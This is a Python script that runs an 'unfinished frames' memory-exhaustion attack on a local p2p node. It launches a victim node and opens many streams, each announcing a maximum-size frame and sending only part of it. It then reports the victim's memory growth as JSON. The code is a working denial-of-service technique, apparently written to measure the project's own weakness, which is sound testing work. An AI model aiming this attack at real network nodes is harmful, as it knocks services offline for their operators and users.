"""The unfinished-frames attack on a p2p node process, with its memory growth.

Usage:
    python scripts/attack_frames.py [--peers 1] [--streams 200] [--fill-bytes 4194300]

A victim node (``python -m node.testing.p2p_runner``, no gossip) starts; the
attacker, in this process, connects with PEERS identities and opens STREAMS
message streams per identity, in parallel. On each it writes a length prefix that
announces a frame of frame_size_bytes_max and then FILL bytes of it, never the
rest, and holds the streams open for HOLD seconds. The victim's resident memory
(VmRSS, and its peak VmHWM) is read from /proc before and after. The last line is
one JSON object.
"""

from __future__ import annotations

import argparse
import json
import logging
import secrets
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import IO, Any

import trio

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from node.core.constants import frame_size_bytes_max  # noqa: E402
from node.home import NodeHome  # noqa: E402

_CHUNK_BYTES = 64 * 1024


def _memory_kib(pid: int) -> dict[str, int]:
    fields: dict[str, int] = {}
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        name, _, value = line.partition(":")
        if name in ("VmRSS", "VmHWM"):
            fields[name] = int(value.split()[0])
    return fields


def _ready(stream: IO[str] | None) -> dict[str, Any]:
    assert stream is not None
    for line in stream:
        message: dict[str, Any] = json.loads(line)
        if message["event"] == "ready":
            return message
    raise SystemExit("victim exited before it was ready")


async def _stream_attack(host: Any, target: Any, fill_bytes: int, counts: dict[str, int]) -> None:
    from node.p2p import MESSAGE_PROTOCOL
    from node.p2p._messenger import NETWORK_ERRORS

    try:
        stream = await host.new_stream(target, [MESSAGE_PROTOCOL])
        await stream.write(frame_size_bytes_max.to_bytes(4, "big"))
        sent = 0
        while sent < fill_bytes:
            chunk = min(_CHUNK_BYTES, fill_bytes - sent)
            await stream.write(b"\x00" * chunk)
            sent += chunk
        counts["filled"] += 1
        counts["bytes"] += sent
    except NETWORK_ERRORS:
        counts["refused"] += 1


async def _attack(arguments: argparse.Namespace, ready: dict[str, Any], pid: int) -> dict[str, Any]:
    from libp2p.peer.peerinfo import info_from_p2p_addr
    from multiaddr import Multiaddr

    from node.p2p import make_host

    counts = {"filled": 0, "refused": 0, "bytes": 0}
    before = _memory_kib(pid)
    info = info_from_p2p_addr(Multiaddr(ready["multiaddrs"][0]))
    hosts = [make_host(secrets.token_bytes(31).rjust(32, b"\x02")) for _ in range(arguments.peers)]
    async with trio.open_nursery() as outer:
        for host in hosts:
            await outer.start(_run_host, host)
        for host in hosts:
            await host.connect(info)
        with trio.move_on_after(arguments.timeout_s):
            async with trio.open_nursery() as nursery:
                for host in hosts:
                    for _ in range(arguments.streams):
                        nursery.start_soon(
                            _stream_attack, host, info.peer_id, arguments.fill_bytes, counts
                        )
        await trio.sleep(arguments.hold_s)
        during = _memory_kib(pid)
        outer.cancel_scope.cancel()
    return {
        "peers": arguments.peers,
        "streams_per_peer": arguments.streams,
        "fill_bytes": arguments.fill_bytes,
        "streams_filled": counts["filled"],
        "streams_refused": counts["refused"],
        "bytes_sent": counts["bytes"],
        "rss_mib_before": round(before["VmRSS"] / 1024, 1),
        "rss_mib_after": round(during["VmRSS"] / 1024, 1),
        "rss_mib_peak": round(during["VmHWM"] / 1024, 1),
        "rss_mib_growth": round((during["VmRSS"] - before["VmRSS"]) / 1024, 1),
    }


async def _run_host(host: Any, *, task_status: Any = trio.TASK_STATUS_IGNORED) -> None:
    from node.p2p._host import listen_multiaddrs

    async with host.run(listen_multiaddrs()):
        task_status.started()
        await trio.sleep_forever()


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--peers", type=int, default=1)
    parser.add_argument("--streams", type=int, default=200)
    parser.add_argument("--fill-bytes", type=int, default=frame_size_bytes_max - 4)
    parser.add_argument("--hold-s", type=float, default=2.0)
    parser.add_argument("--timeout-s", type=float, default=120.0)
    arguments = parser.parse_args()
    # The attacker's own py-libp2p complains of every stream the victim refuses.
    logging.getLogger("libp2p").setLevel(logging.CRITICAL)
    with tempfile.TemporaryDirectory(prefix="attack-frames-") as scratch:
        home = Path(scratch) / "victim"
        NodeHome(home).initialise(node_key=secrets.token_bytes(31).rjust(32, b"\x01"))
        victim = subprocess.Popen(
            [sys.executable, "-m", "node.testing.p2p_runner", "--home", str(home), "--no-gossip"],
            cwd=ROOT,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            text=True,
        )
        try:
            ready = _ready(victim.stdout)
            result = trio.run(_attack, arguments, ready, victim.pid)
            result["victim_alive"] = victim.poll() is None
        finally:
            victim.kill()
            victim.wait(timeout=30)
    for name, value in result.items():
        print(f"{name + ':':<20}{value}")
    print(json.dumps(result))
    return 0


if __name__ == "__main__":
    sys.exit(main())
